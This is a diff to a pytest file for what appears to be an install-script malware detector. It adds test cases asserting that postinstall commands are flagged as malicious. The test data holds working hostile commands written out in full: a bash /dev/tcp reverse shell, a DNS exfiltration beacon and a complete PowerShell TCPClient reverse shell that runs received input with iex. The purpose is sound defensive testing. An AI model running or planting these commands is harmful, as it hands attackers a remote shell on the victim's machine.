@@ -114,9 +114,19 @@ def test_no_scripts_no_findings():
 @pytest.mark.parametrize("command", [
     "bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &",
     "nslookup $(hostname).$(whoami).oast.example",
+    # blind set 17: the classic PowerShell TCPClient shell, started from a batch file
+    "start \"\" /b powershell -nop -w hidden -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.44',443);$s=$c.GetStream();"
+    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object System.Text.ASCIIEncoding).GetString($b,0,$i);"
+    "$o=(iex $d 2>&1|Out-String);$sb=([text.encoding]::ASCII).GetBytes($o);$s.Write($sb,0,$sb.Length)};$c.Close()\"",
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
+
+
+def test_a_powershell_tcp_client_that_runs_nothing_is_no_shell():
+    # (a port check: what the socket reads is never handed to Invoke-Expression)
+    command = "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('localhost',5432);if($c.Connected){exit 0}\""
+    assert "install-script/reverse-shell" not in rules(artifact({"install": command}))
 
 
 def test_shell_file_that_downloads_then_runs_is_a_dropper():
